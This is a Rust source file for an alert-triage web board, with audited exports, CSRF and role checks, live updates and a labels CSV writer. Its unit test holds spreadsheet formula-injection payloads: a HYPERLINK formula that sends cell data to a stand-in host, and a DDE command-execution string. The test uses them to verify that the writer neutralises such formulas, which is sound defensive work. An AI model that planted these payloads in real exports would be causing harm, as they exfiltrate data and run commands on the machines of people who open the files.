//! The board's web server: pages, live updates (server-sent events), triage, exports,
//! `/labels.csv`, and `/metrics`, `/healthz`, `/readyz` like `run`'s admin server.
//!
//! Every page under the user check ([`super::auth::require_user`]); the three operational
//! endpoints are not (they name nobody) so a scraper needs no identity.

use std::convert::Infallible;
use std::sync::{Arc, Mutex, MutexGuard};

use axum::extract::{Path, Query, State};
use axum::http::{header, HeaderMap, StatusCode};
use axum::response::sse::{Event, KeepAlive, Sse};
use axum::response::{IntoResponse, Redirect, Response};
use axum::routing::{get, post};
use axum::{middleware, Extension, Form, Json, Router};
use serde::Deserialize;
use tokio::sync::broadcast;

use super::audit::{Action, Audit};
use super::auth::{self, Csrf, User};
use super::config::BoardConfig;
use super::ingest::Ready;
use super::metrics::BoardMetrics;
use super::pages::{self, QueueParams};
use super::store::{Change, Cursor, QueueFilter, Row, Status, Store, StoreError};
use super::Disposition;
use crate::event::Millis;

/// Wall-clock milliseconds.
pub fn now_ms() -> Millis {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map_or(0, |d| d.as_millis() as Millis)
}

/// Everything the handlers share.
pub struct App {
    pub cfg: BoardConfig,
    pub store: Mutex<Store>,
    pub audit: Audit,
    pub metrics: BoardMetrics,
    pub events: broadcast::Sender<u64>,
    pub csrf: Csrf,
    pub ready: Arc<Ready>,
    pub disposition: Option<Disposition>,
}

impl App {
    fn store(&self) -> MutexGuard<'_, Store> {
        // A handler that panicked mid-query left no transaction open (rusqlite rolls back
        // on drop), so the connection is still good.
        self.store.lock().unwrap_or_else(|p| p.into_inner())
    }

    fn audit(
        &self,
        user: &User,
        action: Action,
        target: &str,
        reason: Option<&str>,
        detail: Option<&str>,
    ) -> Result<(), Box<Response>> {
        self.audit
            .log(now_ms(), Some(&user.name), action, target, reason, detail)
            .map_err(|e| {
                tracing::error!(error = %e, "audit log write failed; request refused");
                Box::new(pages::failure(
                    StatusCode::INTERNAL_SERVER_ERROR,
                    "The audit log cannot be written, so nothing can be shown or changed.",
                ))
            })
    }

    /// Refuses a change or export a viewer asked for, or one without the page's token.
    fn guard_change(
        &self,
        user: &User,
        headers: &HeaderMap,
        token: &str,
        target: &str,
    ) -> Result<(), Box<Response>> {
        if !user.role.may_act() {
            self.metrics.refused.with_label_values(&["role"]).inc();
            self.audit(user, Action::RefusedRole, target, None, None)?;
            return Err(Box::new(pages::failure(
                StatusCode::FORBIDDEN,
                "Your role (viewer) cannot triage or export.",
            )));
        }
        if auth::cross_site(headers) || !self.csrf.check(&user.name, token) {
            self.metrics.refused.with_label_values(&["csrf"]).inc();
            self.audit(user, Action::RefusedCsrf, target, None, None)?;
            return Err(Box::new(pages::failure(
                StatusCode::FORBIDDEN,
                "This form has expired or did not come from the board: reload the page and try again.",
            )));
        }
        Ok(())
    }
}

fn db_failure(e: StoreError) -> Response {
    tracing::error!(error = %e, "board database error");
    pages::failure(
        StatusCode::INTERNAL_SERVER_ERROR,
        "The board's database failed; see the board's log.",
    )
}

/// The router over `app`.
pub fn router(app: Arc<App>) -> Router {
    let pages = Router::new()
        .route("/", get(queue))
        .route("/queue/rows", get(queue_rows))
        .route("/events", get(events))
        .route("/alert/{id}", get(alert))
        .route("/alert/{id}/triage", post(triage))
        .route("/line/{ident}", get(line))
        .route("/line/{ident}/export", post(export))
        .route("/labels.csv", get(labels))
        .route("/static/board.css", get(css))
        .route("/static/board.js", get(js))
        .layer(middleware::from_fn_with_state(
            app.clone(),
            auth::require_user,
        ));
    Router::new()
        .route("/metrics", get(metrics))
        .route("/healthz", get(|| async { "ok\n" }))
        .route("/readyz", get(readyz))
        .merge(pages)
        .with_state(app)
}

async fn metrics(State(app): State<Arc<App>>) -> impl IntoResponse {
    (
        [(
            header::CONTENT_TYPE,
            "text/plain; version=0.0.4; charset=utf-8",
        )],
        app.metrics.render(),
    )
}

async fn readyz(State(app): State<Arc<App>>) -> impl IntoResponse {
    let (ready, detail) = app.ready.get();
    let code = if ready {
        StatusCode::OK
    } else {
        StatusCode::SERVICE_UNAVAILABLE
    };
    (code, format!("{detail}\n"))
}

async fn css() -> impl IntoResponse {
    (
        [(header::CONTENT_TYPE, "text/css; charset=utf-8")],
        include_str!("assets/board.css"),
    )
}

async fn js() -> impl IntoResponse {
    (
        [(header::CONTENT_TYPE, "text/javascript; charset=utf-8")],
        include_str!("assets/board.js"),
    )
}

async fn queue(
    State(app): State<Arc<App>>,
    Extension(user): Extension<User>,
    Query(p): Query<QueueParams>,
) -> Response {
    let f = p.filter(now_ms(), app.cfg.queue_limit);
    let got = {
        let s = app.store();
        (|| {
            Ok::<_, StoreError>((
                queue_page(&s, &f)?,
                s.untriaged()?,
                s.detectors()?,
                s.queue_count(&f)?,
            ))
        })()
    };
    match got {
        Ok(((rows, first), untriaged, detectors, total)) => {
            let skipped = super::metrics::INVALID_REASONS
                .iter()
                .map(|r| app.metrics.invalid.with_label_values(&[r]).get())
                .sum();
            pages::queue(
                &user,
                &app.ready.feed(),
                &p,
                &detectors,
                &rows,
                first,
                untriaged,
                total,
                app.cfg.queue_limit,
                skipped,
            )
        }
        Err(e) => db_failure(e),
    }
}

/// The queue's rows for `f`, and how many rows come before the first of them (a page past
/// the end: all of them).
fn queue_page(s: &Store, f: &QueueFilter) -> Result<(Vec<Row>, u64), StoreError> {
    let rows = s.queue(f)?;
    let first = match (&f.cursor, rows.first()) {
        (None, _) => f.offset,
        (Some(_), Some(r)) => s.queue_position(f, &Cursor::of(r))?,
        (Some(_), None) => s.queue_count(f)?,
    };
    Ok((rows, first))
}

/// The queue's rows alone, for the page's live update.
async fn queue_rows(State(app): State<Arc<App>>, Query(p): Query<QueueParams>) -> Response {
    let f = p.filter(now_ms(), app.cfg.queue_limit);
    let got = {
        let s = app.store();
        (|| {
            Ok::<_, StoreError>((
                queue_page(&s, &f)?,
                s.untriaged()?,
                s.queue_count(&f)?,
                s.detectors()?,
            ))
        })()
    };
    match got {
        Ok(((rows, first), untriaged, total, detectors)) => (
            [(header::CACHE_CONTROL, "no-store")],
            Json(serde_json::json!({
                "untriaged": untriaged,
                "rows": pages::queue_rows(&rows, ""),
                "pager": pages::pager(&p, &rows, first, total, app.cfg.queue_limit),
                // The filter's choices: a detector first seen after the page loaded joins.
                "detectors": detectors,
            })),
        )
            .into_response(),
        Err(e) => db_failure(e),
    }
}

/// How often an open event stream looks at the ingest's state: a feed that goes down (or
/// comes back) shows on the page within this.
pub const FEED_POLL: std::time::Duration = std::time::Duration::from_secs(1);

/// The `ingest` event: the feed's state ([`super::ingest::Feed`]) as JSON.
pub fn ingest_event(feed: &super::ingest::Feed) -> Event {
    Event::default()
        .event("ingest")
        .data(serde_json::to_string(feed).unwrap_or_default())
}

/// Server-sent events: one `alerts` event after each ingest commit that stored new alerts,
/// and an `ingest` event with the feed's state on connect and whenever it changes (the
/// page's chip says when alerts stop arriving: brokers unreachable, database locked).
async fn events(
    State(app): State<Arc<App>>,
) -> Sse<impl futures_util::Stream<Item = Result<Event, Infallible>>> {
    struct Open {
        _counted: Counted,
        rx: broadcast::Receiver<u64>,
        ready: Arc<Ready>,
        /// The state last sent; `None` before the first event.
        sent: Option<super::ingest::Feed>,
        tick: tokio::time::Interval,
    }
    let mut tick = tokio::time::interval(FEED_POLL);
    tick.set_missed_tick_behavior(tokio::time::MissedTickBehavior::Delay);
    let open = Open {
        _counted: Counted::open(&app.metrics.live_streams),
        rx: app.events.subscribe(),
        ready: app.ready.clone(),
        sent: None,
        tick,
    };
    let stream = futures_util::stream::unfold(open, |mut o| async move {
        loop {
            // The first tick is at once: the state goes out first on connect.
            let got = tokio::select! {
                biased;
                _ = o.tick.tick() => None,
                r = o.rx.recv() => Some(r),
            };
            let data = match got {
                Some(Ok(n)) => n.to_string(),
                // Missed some: the page fetches its rows anyway.
                Some(Err(broadcast::error::RecvError::Lagged(_))) => "0".to_string(),
                Some(Err(broadcast::error::RecvError::Closed)) => return None,
                None => {
                    let feed = o.ready.feed();
                    if o.sent.as_ref() == Some(&feed) {
                        continue;
                    }
                    let ev = ingest_event(&feed);
                    o.sent = Some(feed);
                    return Some((Ok(ev), o));
                }
            };
            return Some((Ok(Event::default().event("alerts").data(data)), o));
        }
    });
    Sse::new(stream).keep_alive(KeepAlive::default())
}

/// One open live-update stream in `linewatch_board_live_streams`, for as long as the
/// stream lives (dropped when the browser closes it and the server notices, at the next
/// write: a keep-alive comment at the latest).
struct Counted(prometheus::IntGauge);

impl Counted {
    fn open(gauge: &prometheus::IntGauge) -> Counted {
        gauge.inc();
        Counted(gauge.clone())
    }
}

impl Drop for Counted {
    fn drop(&mut self) {
        self.0.dec();
    }
}

#[derive(Debug, Default, Deserialize)]
struct Notice {
    done: Option<String>,
}

async fn alert(
    State(app): State<Arc<App>>,
    Extension(user): Extension<User>,
    Path(id): Path<String>,
    Query(n): Query<Notice>,
) -> Response {
    let target = format!("alert:{id}");
    let got = {
        let s = app.store();
        (|| {
            let Some(st) = s.get(&id)? else {
                return Ok(None);
            };
            let history = s.history(&id)?;
            let mut related = Vec::new();
            // The other alerts of the subject and its first related identities only: each
            // is a query under the store's lock, which every page and the live queue wait
            // for (an alert naming thousands held them all for tens of seconds).
            for ident in std::iter::once(&st.alert.subject)
                .chain(&st.alert.related)
                .take(1 + RELATED_LOOKED_UP)
            {
                for r in s.about(ident, 20)? {
                    if r.alert.alert_id != id
                        && !related
                            .iter()
                            .any(|x: &super::store::Stored| x.alert.alert_id == r.alert.alert_id)
                    {
                        related.push(r);
                    }
                }
            }
            related.truncate(30);
            Ok::<_, StoreError>(Some((st, history, related)))
        })()
    };
    match got {
        Ok(Some((st, history, related))) => {
            if let Err(r) = app.audit(&user, Action::ViewAlert, &target, None, None) {
                return *r;
            }
            let explanation = crate::explain::explain(&st.alert);
            let notice = n.done.as_deref().map(|d| match d {
                "none" => "Nothing changed.",
                _ => "Saved.",
            });
            pages::alert(
                &user,
                &app.ready.feed(),
                &app.csrf.token(&user.name),
                &st,
                &history,
                &related,
                &explanation,
                notice,
            )
        }
        Ok(None) => pages::failure(
            StatusCode::NOT_FOUND,
            "No such alert (it may have passed its retention).",
        ),
        Err(e) => db_failure(e),
    }
}

#[derive(Debug, Default, Deserialize)]
struct TriageForm {
    #[serde(default)]
    csrf: String,
    /// One of the two decision buttons.
    decision: Option<String>,
    status: Option<String>,
    assignee: Option<String>,
    note: Option<String>,
}

async fn triage(
    State(app): State<Arc<App>>,
    Extension(user): Extension<User>,
    Path(id): Path<String>,
    headers: HeaderMap,
    Form(f): Form<TriageForm>,
) -> Response {
    let target = format!("alert:{id}");
    if let Err(r) = app.guard_change(&user, &headers, &f.csrf, &target) {
        return *r;
    }
    let status = match f
        .decision
        .as_deref()
        .or(f.status.as_deref())
        .filter(|s| !s.is_empty())
    {
        None => None,
        Some(s) => match Status::parse(s) {
            Some(s) => Some(s),
            None => return pages::failure(StatusCode::BAD_REQUEST, "Unknown status."),
        },
    };
    let change = Change {
        status,
        // The decision buttons change only the status.
        assignee: if f.decision.is_some() {
            None
        } else {
            f.assignee.clone()
        },
        note: f.note.clone(),
    };
    let now = now_ms();
    let result = app.store().triage(&id, &user.name, &change, now);
    let done = match result {
        Ok(done) => done,
        Err(StoreError::NotFound) => {
            return pages::failure(StatusCode::NOT_FOUND, "No such alert.")
        }
        Err(StoreError::BackToNew) => {
            return pages::failure(
                StatusCode::CONFLICT,
                "An alert cannot go back to new once it has been triaged.",
            )
        }
        Err(e) => return db_failure(e),
    };
    for e in &done {
        let action = match e.field.as_str() {
            "status" => Action::Status,
            "assignee" => Action::Assign,
            _ => Action::Note,
        };
        app.metrics.triage_action(action);
        let detail = match action {
            Action::Status | Action::Assign => {
                Some(format!("{} -> {}", e.old.as_deref().unwrap_or(""), e.new))
            }
            _ => None,
        };
        // A note's text is the reason given for it.
        let reason = (action == Action::Note).then_some(e.new.as_str());
        if let Err(r) = app.audit(&user, action, &target, reason, detail.as_deref()) {
            return *r;
        }
        if action == Action::Status {
            if let (Some(label), Some(d)) = (
                Status::parse(&e.new).and_then(Status::decision_label),
                &app.disposition,
            ) {
                if let Ok(Some(st)) = app.store().get(&id) {
                    d.publish(&st.alert, label, now, app.metrics.clone());
                }
            }
        }
    }
    let mark = if done.is_empty() { "none" } else { "saved" };
    Redirect::to(&format!("../{}?done={mark}", pages::seg(&id))).into_response()
}

/// How many of an alert's related identities its page looks up other alerts for.
pub const RELATED_LOOKED_UP: usize = 50;

async fn line(
    State(app): State<Arc<App>>,
    Extension(user): Extension<User>,
    Path(ident): Path<String>,
) -> Response {
    let got = app.store().about(&ident, 1_000);
    match got {
        Ok(alerts) => {
            if let Err(r) = app.audit(
                &user,
                Action::ViewLine,
                &format!("line:{ident}"),
                None,
                None,
            ) {
                return *r;
            }
            pages::line(
                &user,
                &app.ready.feed(),
                &app.csrf.token(&user.name),
                &ident,
                &alerts,
            )
        }
        Err(e) => db_failure(e),
    }
}

#[derive(Debug, Default, Deserialize)]
struct ExportForm {
    #[serde(default)]
    csrf: String,
    #[serde(default)]
    reason: String,
    #[serde(default)]
    format: String,
}

async fn export(
    State(app): State<Arc<App>>,
    Extension(user): Extension<User>,
    Path(ident): Path<String>,
    headers: HeaderMap,
    Form(f): Form<ExportForm>,
) -> Response {
    let target = format!("line:{ident}");
    if let Err(r) = app.guard_change(&user, &headers, &f.csrf, &target) {
        return *r;
    }
    let reason = f.reason.trim();
    if reason.chars().count() < 3 {
        return pages::failure(
            StatusCode::BAD_REQUEST,
            "An export needs a reason (at least 3 characters); it is recorded.",
        );
    }
    let alerts = match app.store().about(&ident, 10_000) {
        Ok(a) => a,
        Err(e) => return db_failure(e),
    };
    let format = if f.format == "print" { "print" } else { "csv" };
    if let Err(r) = app.audit(&user, Action::Export, &target, Some(reason), Some(format)) {
        return *r;
    }
    app.metrics.exports.inc();
    if format == "print" {
        return pages::export_print(&user, &ident, reason, now_ms(), &alerts);
    }
    (
        [
            (header::CONTENT_TYPE, "text/csv; charset=utf-8".to_string()),
            (header::CACHE_CONTROL, "no-store".to_string()),
            (
                header::CONTENT_DISPOSITION,
                "attachment; filename=\"linewatch-evidence.csv\"".to_string(),
            ),
        ],
        pages::export_csv(&alerts),
    )
        .into_response()
}

/// `subject,label` for every decided subject, as `linewatch tune --labels` reads it.
/// `subject,label` rows as CSV that opens cleanly in a spreadsheet: quoted where a comma,
/// quote or line break would break the row, and a subject that a spreadsheet would run as a
/// formula (`=`, `+`, `-`, `@` first) written with a leading `'`, which `tune --labels`
/// drops again on reading ([`crate::sheet::protect`]).
fn labels_csv(rows: &[(String, String)]) -> String {
    let mut w = csv::Writer::from_writer(Vec::new());
    // Writing to memory cannot fail.
    let _ = w.write_record(["subject", "label"]);
    for (subject, label) in rows {
        let _ = w.write_record([
            crate::sheet::protect(subject).as_ref(),
            crate::sheet::protect(label).as_ref(),
        ]);
    }
    String::from_utf8(w.into_inner().unwrap_or_default()).unwrap_or_default()
}

async fn labels(State(app): State<Arc<App>>, Extension(user): Extension<User>) -> Response {
    if !user.role.may_act() {
        app.metrics.refused.with_label_values(&["role"]).inc();
        if let Err(r) = app.audit(&user, Action::RefusedRole, "/labels.csv", None, None) {
            return *r;
        }
        return pages::failure(
            StatusCode::FORBIDDEN,
            "Your role (viewer) cannot export labels.",
        );
    }
    let got = app.store().labels();
    match got {
        Ok(rows) => {
            if let Err(r) = app.audit(&user, Action::ExportLabels, "/labels.csv", None, None) {
                return *r;
            }
            app.metrics.exports.inc();
            let s = labels_csv(&rows);
            (
                [
                    (header::CONTENT_TYPE, "text/csv; charset=utf-8"),
                    (header::CACHE_CONTROL, "no-store"),
                ],
                s,
            )
                .into_response()
        }
        Err(e) => db_failure(e),
    }
}

#[cfg(test)]
mod tests {
    #[test]
    fn labels_csv_keeps_formulas_and_line_breaks_out_and_reads_back() {
        let rows = vec![
            (
                "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")".to_string(),
                "deal_line".to_string(),
            ),
            ("+cmd|' /C calc'!A0".to_string(), "deal_line".to_string()),
            ("La,b".to_string(), "lookalike_triaged".to_string()),
            ("Lplain".to_string(), "deal_line".to_string()),
        ];
        let csv = super::labels_csv(&rows);
        // No field starts a formula, and every row is one line.
        for line in csv.lines().skip(1) {
            let first = line.trim_start_matches('"');
            assert!(!first.starts_with(['=', '+', '-', '@']), "{line}");
        }
        assert_eq!(csv.lines().count(), 1 + rows.len());
        // `tune --labels` reads the same subjects back.
        let labels = crate::eval::Labels::parse(&csv).unwrap();
        let deal: std::collections::HashSet<&str> = rows
            .iter()
            .filter(|(_, l)| l == "deal_line")
            .map(|(s, _)| s.as_str())
            .collect();
        assert_eq!(labels.truth("deal_line"), deal);
        assert!(labels.lookalikes().contains("La,b"));
    }
}
